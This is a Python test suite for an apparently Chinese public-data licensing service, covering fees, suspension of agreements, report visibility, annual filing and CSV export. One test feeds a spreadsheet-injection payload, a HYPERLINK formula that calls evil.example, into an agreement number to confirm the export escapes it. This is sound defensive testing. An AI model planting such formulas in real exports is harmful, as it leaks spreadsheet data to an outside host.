"""What a review of public data operation found, kept fixed (both databases): a use's policy is
written from the use (no hidden fee, no other purpose, no resale, as many uses as were bought,
the channel of its fee unit); nothing is resumed, approved or used under a suspended agreement;
suspending holds what is not yet in effect and resuming gets on despite a use whose term ended;
a request that ends undecided reads as such; an implementing body reads only its own part of
filed reports; filed years stay as filed; CSV cells never become formulas; a user is not told
about agreements it cannot see."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import pytest
from factories import make_actor
from grants_support import certify_licence
from operation_support import (
    SELECTION,
    SIGNED,
    make_cast,
    price_list,
    public_asset,
    sign,
    use_draft,
)
from registry_support import principal

from datafactor.errors import Conflict, Forbidden, NotFound
from datafactor.identity import PartyKind
from datafactor.policy.grants import (
    GrantState,
    Regime,
    get_grant,
    grants_under,
    resume_grant,
    use_grant,
    withdraw_grant,
)
from datafactor.policy.operation import services
from datafactor.policy.operation.domain import (
    AgreementState,
    OperationConflict,
    OperationError,
    OperationInvalid,
    load_operation_rules,
)

RULES = load_operation_rules()
LIVE = RULES.rule_id("agreement_live")


@pytest.fixture
def cast(db, settings):
    return make_cast(db, settings)


def at(day: date) -> datetime:
    """Noon in Nanning on ``day``."""
    return datetime(day.year, day.month, day.day, 4, tzinfo=UTC)


def ask(db, who, grant_id: str, day: date, **request: Any) -> tuple[str, tuple[str, ...], int]:
    """The grantee uses the grant: the decision, its rules, and the duties it carries."""
    body = {"action": "use", "channel": "api", "spatial": "450100", **request}
    with db.write() as s:
        out = use_grant(s, who, grant_id, body, now=at(day))
        return out.decision.decision, tuple(out.decision.rules), len(out.decision.duties)


def offer(db, cast, agreement_id: str, on: date = SIGNED, **kw: Any):
    with db.write() as s:
        return services.make_use(
            s, cast["operator"], use_draft(cast, agreement_id, **kw), issuer=cast.issuer, today=on
        )


def change(db, who, agreement_id: str, target: AgreementState, on: date, reason: str = "核查"):
    with db.write() as s:
        return services.change_agreement(s, who, agreement_id, target, reason=reason, today=on)


def report(db, who, operator_id: str, year: int, today: date | None = None) -> dict[str, Any]:
    with db.read() as s:
        return services.build_report(s, who, operator_id, year, today=today)


# ------------------------------------------------------------------ H1: the use's own policy


def test_a_free_use_is_free_and_only_for_its_declared_purpose(db, cast):
    agreement_id = sign(db, cast)
    use, grant = offer(
        db,
        cast,
        agreement_id,
        use_class="public_welfare",
        purpose="public_welfare",
        unit=None,
        quantity=1,
    )
    assert use.fee_fen == 0 and grant.fee_fen == 0
    day = certify_licence(db, cast["registrar"], cast["operator"], grant.id, cast.issuer, SIGNED)
    # Used for its purpose without paying anything: no payment duty hides in its policy.
    assert ask(db, cast["user"], grant.id, day, purpose="public_welfare")[::2] == ("permit", 0)
    # A free use is not a paid purpose in disguise, nor raw public data to pass on.
    assert ask(db, cast["user"], grant.id, day, purpose="product_development")[0] == "deny"
    for action in ("distribute", "sell", "give", "reproduce", "df:onwardTransfer"):
        assert ask(db, cast["user"], grant.id, day, action=action, purpose="public_welfare")[0] == (
            "deny"
        ), action
    assert ask(db, cast["user"], grant.id, day, channel="download")[0] == "deny"


def test_a_paid_use_allows_as_many_uses_as_were_bought(db, cast):
    agreement_id = sign(db, cast)
    price_list(db, cast)
    use, grant = offer(db, cast, agreement_id, quantity=2)
    assert (use.fee_fen, grant.max_uses) == (80, 2)
    day = certify_licence(db, cast["registrar"], cast["operator"], grant.id, cast.issuer, SIGNED)
    for _ in range(2):
        assert ask(db, cast["user"], grant.id, day, purpose="product_development")[0] == "permit"
    assert ask(db, cast["user"], grant.id, day, purpose="product_development")[0] == "deny"
    # Asked for by the user: the same count, whatever it might have wished to write.
    with db.write() as s:
        _, asked = services.make_use(
            s,
            cast["user"],
            use_draft(cast, agreement_id, grantee_id=None, quantity=5),
            issuer=cast.issuer,
            today=SIGNED,
        )
    assert asked.max_uses == 5


def test_a_use_is_delivered_by_the_channel_its_fee_unit_prices(db, cast):
    agreement_id = sign(db, cast)
    price_list(db, cast)  # per API call
    use, grant = offer(db, cast, agreement_id, quantity=10)
    assert use.channels == ["api"]
    day = certify_licence(db, cast["registrar"], cast["operator"], grant.id, cast.issuer, SIGNED)
    assert ask(db, cast["user"], grant.id, day, purpose="product_development")[0] == "permit"
    sandbox = ask(db, cast["user"], grant.id, day, purpose="product_development", channel="sandbox")
    assert sandbox[0] == "deny"
    with db.write() as s, pytest.raises(OperationInvalid) as exc:
        services.make_use(
            s,
            cast["operator"],
            use_draft(cast, agreement_id, channels=("sandbox",)),
            issuer=cast.issuer,
            today=SIGNED,
        )
    assert exc.value.rule == RULES.rule_id("fee_unit")


def test_a_year_of_access_runs_at_most_the_years_bought(db, cast):
    agreement_id = sign(db, cast)
    with db.write() as s:
        services.set_cap(
            s,
            cast["bureau"],
            unit="access_year",
            amount_fen=5_000_000,
            effective_from=SIGNED,
            source_document="桂发改价格〔2026〕12号",
            today=SIGNED,
        )
    with db.write() as s:
        services.publish_fee(
            s,
            cast["operator"],
            asset_id=cast.asset_id,
            unit="access_year",
            amount_fen=5_000_000,
            effective_from=SIGNED,
            today=SIGNED,
        )
    with db.write() as s, pytest.raises(OperationInvalid) as exc:
        services.make_use(
            s,
            cast["user"],
            use_draft(
                cast,
                agreement_id,
                grantee_id=None,
                unit="access_year",
                quantity=1,
                term_end=date(2031, 3, 31),
            ),
            issuer=cast.issuer,
            today=SIGNED,
        )
    assert exc.value.rule == RULES.rule_id("fee_unit")
    assert exc.value.params["latest"] == "2027-03-31"
    with db.write() as s:
        use, grant = services.make_use(
            s,
            cast["user"],
            use_draft(
                cast,
                agreement_id,
                grantee_id=None,
                unit="access_year",
                quantity=1,
                term_end=date(2027, 3, 31),
            ),
            issuer=cast.issuer,
            today=SIGNED,
        )
    assert use.fee_fen == 5_000_000 and grant.max_uses is None
    assert sorted(use.channels) == ["api", "sandbox"]


# ------------------------------------------------- H2, M1, M2: suspension and resumption


def test_nothing_is_resumed_approved_or_used_under_a_suspended_agreement(db, cast):
    agreement_id = sign(db, cast)
    price_list(db, cast)
    _, first = offer(db, cast, agreement_id)
    _, second = offer(db, cast, agreement_id)
    with db.write() as s:
        asked, _ = services.make_use(
            s,
            cast["user"],
            use_draft(cast, agreement_id, grantee_id=None),
            issuer=cast.issuer,
            today=SIGNED,
        )
    day = certify_licence(db, cast["registrar"], cast["operator"], first.id, cast.issuer, SIGNED)
    change(db, cast["body"], agreement_id, AgreementState.SUSPENDED, day)
    # The operator cannot resume its use on its own, nor approve a request, while suspended.
    with db.write() as s, pytest.raises(OperationError) as exc:
        resume_grant(s, cast["operator"], first.id, reason="we resume", today=day)
    assert exc.value.rule == LIVE
    with db.write() as s, pytest.raises(OperationConflict) as exc:
        services.decide_use(
            s, cast["operator"], asked.id, approve=True, issuer=cast.issuer, today=day
        )
    assert exc.value.rule == LIVE
    # The second use's licence is registered during the suspension: in effect, but not usable.
    later = certify_licence(db, cast["registrar"], cast["operator"], second.id, cast.issuer, day)
    with db.read() as s:
        assert get_grant(s, cast["user"], second.id).state == GrantState.ACTIVE
    decision, rules, _ = ask(db, cast["user"], second.id, later, purpose="product_development")
    assert decision == "deny" and LIVE in rules
    # Resumed: both are used again, and the request waiting meanwhile is decided.
    change(db, cast["body"], agreement_id, AgreementState.ACTIVE, later, reason="恢复")
    for grant in (first, second):
        assert ask(db, cast["user"], grant.id, later, purpose="product_development")[0] == "permit"
    with db.write() as s:
        decided, _ = services.decide_use(
            s, cast["operator"], asked.id, approve=True, issuer=cast.issuer, today=later
        )
    assert decided.outcome == "approved"


def test_suspending_and_resuming_keeps_what_was_not_yet_in_effect(db, cast):
    agreement_id = sign(db, cast)
    price_list(db, cast)
    offer(db, cast, agreement_id)
    change(db, cast["body"], agreement_id, AgreementState.SUSPENDED, SIGNED)
    change(db, cast["body"], agreement_id, AgreementState.ACTIVE, SIGNED, reason="恢复")
    with db.read() as s:
        grants = grants_under(s, Regime.OPERATION, agreement_id)
        # The operator's licence and the paid use are still being registered, not revoked.
        assert {g.state for g in grants} == {GrantState.APPROVED}
        assert any(g.grantee_id == cast.operator.party_id for g in grants)
        assert [e.agreement_id for e in services.catalogue(s, cast["user"], today=SIGNED)] == [
            agreement_id
        ]
    assert report(db, cast["operator"], cast.operator.party_id, 2026, SIGNED)["income_fen"] == (
        40_000
    )


def test_a_paid_use_ended_before_it_took_effect_is_no_income(db, cast):
    agreement_id = sign(db, cast)
    price_list(db, cast)
    _, grant = offer(db, cast, agreement_id)
    change(db, cast["body"], agreement_id, AgreementState.TERMINATED, SIGNED, reason="协议解除")
    with db.read() as s:
        assert get_grant(s, cast["user"], grant.id).state == GrantState.REVOKED
    found = report(db, cast["operator"], cast.operator.party_id, 2026, date(2026, 12, 1))
    assert found["income_fen"] == 0 and found["treasury_fen"] == 0


def test_resuming_expires_a_use_whose_term_ended_meanwhile_and_resumes_the_rest(db, cast):
    agreement_id = sign(db, cast)
    price_list(db, cast)
    _, short = offer(db, cast, agreement_id, term_end=date(2026, 5, 31))
    _, long = offer(db, cast, agreement_id)
    day = certify_licence(db, cast["registrar"], cast["operator"], short.id, cast.issuer, SIGNED)
    certify_licence(db, cast["registrar"], cast["operator"], long.id, cast.issuer, SIGNED)
    change(db, cast["body"], agreement_id, AgreementState.SUSPENDED, day)
    resumed = change(db, cast["body"], agreement_id, AgreementState.ACTIVE, date(2026, 6, 5))
    assert resumed.state == "active"
    with db.read() as s:
        assert get_grant(s, cast["user"], short.id).state == GrantState.EXPIRED
        assert get_grant(s, cast["user"], long.id).state == GrantState.ACTIVE


def test_a_request_withdrawn_before_the_decision_reads_as_withdrawn(db, cast):
    agreement_id = sign(db, cast)
    price_list(db, cast)
    with db.write() as s:
        asked, grant = services.make_use(
            s,
            cast["user"],
            use_draft(cast, agreement_id, grantee_id=None),
            issuer=cast.issuer,
            today=SIGNED,
        )
    with db.write() as s:
        withdraw_grant(s, cast["user"], grant.id, today=SIGNED)
    with db.read() as s:
        assert services.list_uses(s, cast["operator"], outcome="requested")[1] == 0
        assert services.list_uses(s, cast["operator"], outcome="withdrawn")[1] == 1
    with db.write() as s, pytest.raises(Conflict) as exc:
        services.decide_use(
            s, cast["operator"], asked.id, approve=False, reason="x", issuer=cast.issuer
        )
    assert exc.value.params["outcome"] == "withdrawn"
    with db.write() as s:
        services.sweep(s, today=SIGNED)
    with db.read() as s:
        assert services.get_use(s, cast["user"], asked.id).outcome == "withdrawn"


def test_terminating_records_the_requests_it_revoked(db, cast):
    agreement_id = sign(db, cast)
    with db.write() as s:
        asked, _ = services.make_use(
            s,
            cast["user"],
            use_draft(
                cast,
                agreement_id,
                grantee_id=None,
                use_class="public_welfare",
                purpose="research",
                unit=None,
            ),
            issuer=cast.issuer,
            today=SIGNED,
        )
    change(db, cast["body"], agreement_id, AgreementState.TERMINATED, SIGNED, reason="协议解除")
    with db.read() as s:
        assert services.get_use(s, cast["operator"], asked.id).outcome == "revoked"


# ------------------------------------------------------------- H3: who reads which report


def test_a_body_reads_only_its_own_part_of_a_filed_report(db, settings, cast):
    nanning = sign(db, cast)
    price_list(db, cast)
    offer(db, cast, nanning)
    liuzhou = principal(db, make_actor(db, PartyKind.GOVERNMENT_DEPARTMENT, name="柳州市（测试）"))
    theirs = public_asset(db, settings, liuzhou, cast["registrar"], cast.issuer)
    with db.write() as s:
        services.sign_agreement(
            s,
            liuzhou,
            services.AgreementDraft(
                operator_id=cast.operator.party_id,
                number="LZSZF-SQYY-2026-001",
                selection=SELECTION,
                asset_ids=(theirs,),
            ),
            issuer=cast.issuer,
            today=SIGNED,
        )
    with db.write() as s:
        services.record_cost(s, cast["operator"], year=2026, category="personnel", amount_fen=100)
    # A draft is the operator's and the supervisors': a body waits for the filing.
    with pytest.raises(NotFound):
        report(db, liuzhou, cast.operator.party_id, 2026, SIGNED)
    with db.write() as s:
        services.file_report(s, cast["operator"], 2026, today=date(2027, 1, 5))
    mine = report(db, liuzhou, cast.operator.party_id, 2026)
    assert [a["number"] for a in mine["agreements"]] == ["LZSZF-SQYY-2026-001"]
    assert mine["uses"]["total"] == 0 and mine["income_fen"] == 0
    assert "costs" not in mine and "revenue" not in mine and "history" not in mine
    text = services.report_csv(mine)
    assert "NNSZF-SQYY-2026-001" not in text and "邕江银行" not in text
    assert "南宁市人民政府" not in text and "personnel" not in text
    theirs_too = report(db, cast["body"], cast.operator.party_id, 2026)
    assert [a["number"] for a in theirs_too["agreements"]] == ["NNSZF-SQYY-2026-001"]
    assert theirs_too["income_fen"] == 40_000
    (industry,) = [c for c in theirs_too["uses"]["by_class"] if c["count"]]
    assert industry["grantee_names"] == ["邕江银行（测试）"]
    # The operator and the bureau read it whole.
    for who in (cast["operator"], cast["bureau"]):
        whole = report(db, who, cast.operator.party_id, 2026)
        assert len(whole["agreements"]) == 2 and whole["costs"]["total_fen"] == 100


def test_the_operator_may_refuse_an_agreement_an_enterprise_signed_with_it(db, settings, cast):
    sign(db, cast)
    firm = principal(db, make_actor(db, PartyKind.ENTERPRISE, name="好奇科技有限公司"))
    asset = public_asset(db, settings, firm, cast["registrar"], cast.issuer)
    with db.write() as s:
        theirs = services.sign_agreement(
            s,
            firm,
            services.AgreementDraft(
                operator_id=cast.operator.party_id,
                number="HQ-1",
                selection=SELECTION,
                asset_ids=(asset,),
            ),
            issuer=cast.issuer,
            today=SIGNED,
        ).id
    # The enterprise learns nothing of the other bodies' agreements from the operator's report.
    with pytest.raises(NotFound):
        report(db, firm, cast.operator.party_id, 2026, SIGNED)
    # The operator suspends nothing, but it may terminate an agreement it did not agree to.
    with pytest.raises(Forbidden):
        change(db, cast["operator"], theirs, AgreementState.SUSPENDED, SIGNED)
    ended = change(
        db, cast["operator"], theirs, AgreementState.TERMINATED, SIGNED, reason="未参与遴选"
    )
    assert ended.state == "terminated" and ended.state_reason == "未参与遴选"
    with db.read() as s:
        assert {g.state for g in grants_under(s, Regime.OPERATION, theirs)} == {GrantState.REVOKED}


# ---------------------------------------------------------------- H4: filed years stay filed


def test_reports_are_filed_in_order_and_filed_years_stay_as_filed(db, cast):
    agreement_id = sign(db, cast)
    price_list(db, cast)
    op = cast["operator"]
    offer(db, cast, agreement_id)  # 40,000 fen of income in 2026
    with db.write() as s:
        services.record_cost(s, op, year=2026, category="personnel", amount_fen=10_000)
        services.record_cost(s, op, year=2027, category="personnel", amount_fen=10_000)
    with db.write() as s, pytest.raises(OperationConflict) as exc:
        services.file_report(s, op, 2027, today=date(2028, 1, 5))
    assert exc.value.rule == RULES.rule_id("annual_report")
    assert exc.value.params["missing"] == 2026
    with db.write() as s:
        filed = services.file_report(s, op, 2026, today=date(2027, 1, 5))
    assert filed.content["revenue"]["excess_fen"] == 40_000 - 10_800
    # 2026 is closed: no cost is added to it afterwards.
    with db.write() as s, pytest.raises(OperationConflict) as exc:
        services.record_cost(s, op, year=2026, category="other", amount_fen=1_000_000)
    assert exc.value.rule == RULES.rule_id("annual_report")
    # The use is revoked before it ever took effect: 2026 stays as filed all the same.
    change(db, cast["body"], agreement_id, AgreementState.TERMINATED, date(2027, 1, 20))
    r27 = report(db, op, op.party_id, 2027, date(2027, 6, 1))
    assert r27["revenue"]["deduction_fen"] == 29_200
    assert [(h["year"], h["income_fen"], h["excess_fen"]) for h in r27["history"]] == [
        (2026, 40_000, 29_200)
    ]
    with db.write() as s:
        services.file_report(s, op, 2027, today=date(2028, 1, 5))
    with db.write() as s, pytest.raises(OperationConflict):
        services.record_cost(s, op, year=2026, category="other", amount_fen=1)
    r28 = report(db, op, op.party_id, 2028, date(2028, 6, 1))
    assert [h["year"] for h in r28["history"]] == [2026, 2027]
    assert r28["revenue"]["deduction_fen"] == 29_200 - 10_800


# --------------------------------------------------------------------------- M4, L1


def test_a_csv_cell_never_becomes_a_formula(db, cast):
    sign(db, cast, number='=HYPERLINK("http://evil.example/?"&A1,"点击")')
    found = report(db, cast["operator"], cast.operator.party_id, 2026, SIGNED)
    rows = list(csv.reader(io.StringIO(services.report_csv(found))))
    (agreement,) = [r for r in rows if r[0] == "agreement"]
    assert agreement[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    assert services.csv_cell("-1,000.00") == "-1,000.00"  # an amount stays an amount
    assert services.csv_cell("-1+1") == "'-1+1"


def test_a_user_is_not_told_about_an_agreement_it_cannot_see(db, cast):
    agreement_id = sign(db, cast)
    price_list(db, cast)
    change(db, cast["body"], agreement_id, AgreementState.SUSPENDED, SIGNED)
    with db.write() as s, pytest.raises(NotFound) as exc:
        services.make_use(
            s,
            cast["user"],
            use_draft(cast, agreement_id, grantee_id=None),
            issuer=cast.issuer,
            today=SIGNED,
        )
    assert "NNSZF" not in str(exc.value) and "suspended" not in str(exc.value)
    # Its operator is told why.
    with db.write() as s, pytest.raises(OperationConflict) as refused:
        services.make_use(
            s, cast["operator"], use_draft(cast, agreement_id), issuer=cast.issuer, today=SIGNED
        )
    assert refused.value.rule == LIVE
